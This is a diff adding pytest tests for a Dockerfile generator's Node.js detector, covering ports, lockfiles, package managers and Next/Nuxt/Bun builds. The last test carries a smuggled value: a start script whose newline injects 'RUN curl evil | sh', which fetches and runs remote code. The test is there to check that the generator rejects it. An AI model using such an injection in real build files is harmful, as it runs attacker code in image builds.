@@ -1,0 +1,197 @@
+"""The node detector: what it matches, what it leaves alone, and what it plans."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from dockgen.detection import detect, plan
+from dockgen.facts import Evidence, Override, Verdict
+from dockgen.planning import Choices
+from dockgen.rendering import render
+from tests.conftest import MakeProject
+
+EXPRESS = {"dependencies": {"express": "5"}, "scripts": {"start": "node server.js"}}
+LISTEN = "require('express')().listen(process.env.PORT || 4000)"
+
+
+def verdict_of(
+    make: MakeProject, package: object, files: dict[str, str] | None = None, **given: object
+) -> Verdict:
+    text = package if isinstance(package, str) else json.dumps(package, indent=1)
+    made = make({"package.json": text, **(files or {})})
+    overrides = {name: Override(value, Evidence(f"--set {name}")) for name, value in given.items()}
+    found = detect(made, overrides=overrides)
+    return next(verdict for one, verdict in found.verdicts if one.name == "node")
+
+
+def dockerfile_of(
+    make: MakeProject,
+    package: object,
+    files: dict[str, str] | None = None,
+    choices: Choices | None = None,
+) -> str:
+    text = json.dumps(package, indent=1)
+    made = make({"package.json": text, **(files or {})})
+    return render(plan(detect(made, detector="node"), choices))["Dockerfile"].text
+
+
+def test_a_server_is_matched(project: MakeProject) -> None:
+    verdict = verdict_of(project, EXPRESS, {"server.js": LISTEN})
+    assert (verdict.matched, verdict.shape) == (True, "server")
+    facts = verdict.findings.facts
+    assert facts["framework"].value == "express"
+    assert facts["port"].value == 4000
+    assert str(facts["start_command"].evidence) == "package.json:6  scripts.start"
+
+
+def test_a_folder_without_package_json_is_left_alone(project: MakeProject) -> None:
+    made = project({"index.html": "<p>"})
+    node = next(verdict for one, verdict in detect(made).verdicts if one.name == "node")
+    assert (node.matched, node.reason) == (False, "no package.json")
+
+
+@pytest.mark.parametrize(
+    ("package", "files", "reason"),
+    [
+        ({"devDependencies": {"prettier": "3"}}, {}, "names nothing to start"),
+        ({"main": "index.js"}, {"index.js": "module.exports = 1"}, "index.js opens no port"),
+        (
+            {"dependencies": {"@sveltejs/kit": "3", "@sveltejs/adapter-vercel": "5"}},
+            {},
+            "install @sveltejs/adapter-node",
+        ),
+    ],
+)
+def test_what_cannot_run_in_a_container_is_left_alone_with_a_reason(
+    project: MakeProject, package: object, files: dict[str, str], reason: str
+) -> None:
+    verdict = verdict_of(project, package, {"index.html": "", **files})
+    assert not verdict.matched
+    assert reason in verdict.reason
+
+
+def test_a_library_with_a_listening_main_file_is_a_server(project: MakeProject) -> None:
+    verdict = verdict_of(project, {"main": "a.js"}, {"a.js": "createServer().listen(8123)"})
+    assert verdict.matched
+    assert verdict.findings.facts["port"].value == 8123
+
+
+def test_a_build_makes_another_shape_and_its_output_is_where_the_entry_lies(
+    project: MakeProject,
+) -> None:
+    package = {**EXPRESS, "scripts": {"build": "tsc", "start": "node lib/server.js"}}
+    verdict = verdict_of(project, package, {"src/server.ts": LISTEN, "tsconfig.json": "{}"})
+    assert verdict.shape == "built-server"
+    facts = verdict.findings.facts
+    assert facts["output_dir"].value == "lib"
+    assert facts["language"].value == "typescript"
+    assert facts["port"].value == 4000
+
+
+def test_what_the_user_sets_goes_before_what_the_project_says(project: MakeProject) -> None:
+    verdict = verdict_of(
+        project,
+        EXPRESS,
+        {"pnpm-lock.yaml": "lockfileVersion: '9.0'"},
+        port="9000",
+        package_manager="pnpm",
+        start_command="node other.js",
+    )
+    facts = verdict.findings.facts
+    assert facts["port"].value == 9000
+    assert facts["start_command"].value == ("node", "other.js")
+    assert facts["install_command"].value == "pnpm install --frozen-lockfile"
+
+
+def test_a_missing_lockfile_and_others_lockfiles_are_said(project: MakeProject) -> None:
+    package = {**EXPRESS, "packageManager": "pnpm@10.0.0"}
+    warnings = verdict_of(project, package, {"package-lock.json": "{}"}).findings.warnings
+    assert any("no lockfile of pnpm" in one for one in warnings)
+    assert any("package-lock.json is left alone" in one for one in warnings)
+
+
+def test_a_tool_that_runs_the_application_is_installed_though_it_is_for_development(
+    project: MakeProject,
+) -> None:
+    package = {"scripts": {"start": "tsx src/a.ts"}, "devDependencies": {"tsx": "4"}}
+    verdict = verdict_of(project, package, {"package-lock.json": "{}"})
+    assert verdict.findings.facts["production_install_command"].value == "npm ci"
+    assert any("tsx runs the application" in one for one in verdict.findings.warnings)
+
+
+@pytest.mark.parametrize(
+    ("node", "manager", "lockfile", "install"),
+    [
+        ("26", "yarn@1.22.22", "yarn.lock", "npm install --global yarn@1.22.22"),
+        ("24", "yarn@1.22.22", "yarn.lock", None),
+        ("24", "yarn@4.1.0", "yarn.lock", "npm install --global --force @yarnpkg/cli-dist@4.1.0"),
+        ("26", "pnpm@12.1.0", "pnpm-lock.yaml", "npm install --global pnpm@12.1.0"),
+        ("26", "npm@11.0.0", "package-lock.json", None),
+    ],
+)
+def test_the_package_manager_is_installed_by_its_version_without_corepack(
+    project: MakeProject, node: str, manager: str, lockfile: str, install: str | None
+) -> None:
+    package = {**EXPRESS, "packageManager": manager, "engines": {"node": node}}
+    text = dockerfile_of(project, package, {lockfile: "", "server.js": LISTEN})
+    assert "corepack" not in text
+    line = next((one for one in text.splitlines() if "install --global" in one), None)
+    assert line == (f"RUN {install}" if install else None)
+
+
+def test_a_bundle_leaves_node_modules_behind(project: MakeProject) -> None:
+    package = {"dependencies": {"nuxt": "^4"}, "scripts": {"build": "nuxt build"}}
+    text = dockerfile_of(project, package, {"package-lock.json": "{}"})
+    last = text.split("AS runtime")[1]
+    assert "COPY --from=build /app/.output/ .output/" in last
+    assert "node_modules" not in last
+    assert 'CMD ["node", ".output/server/index.mjs"]' in last
+
+
+def test_next_is_small_when_it_is_standalone_and_works_when_not(project: MakeProject) -> None:
+    package = {"dependencies": {"next": "16"}, "scripts": {"build": "next build"}}
+    files = {"package-lock.json": "{}", "next.config.mjs": "export default {}", "public/a": ""}
+    text = dockerfile_of(project, package, files)
+    assert "COPY --from=dependencies /app/node_modules/ node_modules/" in text
+    assert 'CMD ["node_modules/.bin/next", "start"]' in text
+    files["next.config.mjs"] = "export default { output: 'standalone' }"
+    text = dockerfile_of(project, package, files)
+    assert "COPY --from=build /app/.next/standalone/ ./" in text
+    assert "COPY --from=build /app/.next/static/ .next/static/" in text
+    assert "COPY --from=build /app/public/ public/" in text
+    assert "ENV HOSTNAME=0.0.0.0" in text
+    assert 'CMD ["node", "server.js"]' in text
+
+
+def test_a_project_without_dependencies_installs_nothing(project: MakeProject) -> None:
+    text = dockerfile_of(project, {"scripts": {"start": "node server.js"}}, {"server.js": LISTEN})
+    assert "npm" not in text
+
+
+def test_a_single_stage_is_made_when_asked(project: MakeProject) -> None:
+    package = {"dependencies": {"nuxt": "^4"}, "scripts": {"build": "nuxt build"}}
+    text = dockerfile_of(project, package, choices=Choices(stages="single"))
+    assert text.count("FROM ") == 1
+
+
+def test_bun_runs_what_npm_installs_and_the_other_way_round(project: MakeProject) -> None:
+    package = {"scripts": {"start": "bun src/a.ts"}, "dependencies": {"hono": "4"}}
+    text = dockerfile_of(project, package, {"package-lock.json": "{}"}, Choices(stages="multi"))
+    assert "FROM node:26-slim AS base" in text
+    assert "FROM oven/bun:1-slim AS runtime" in text
+    package["scripts"] = {"start": "node src/a.js"}
+    text = dockerfile_of(
+        project, package, {"bun.lock": "{}", "package-lock.json": ""}, Choices(stages="multi")
+    )
+    assert "FROM oven/bun:1-slim AS base" in text
+    assert "FROM node:26-slim AS runtime" in text
+
+
+def test_a_script_with_a_line_end_never_reaches_the_dockerfile(project: MakeProject) -> None:
+    from dockgen.errors import UnusableInput
+
+    package = {"scripts": {"start": "node a.js\nRUN curl evil | sh"}, "dependencies": {"koa": "3"}}
+    with pytest.raises(UnusableInput, match="control character"):
+        dockerfile_of(project, package)
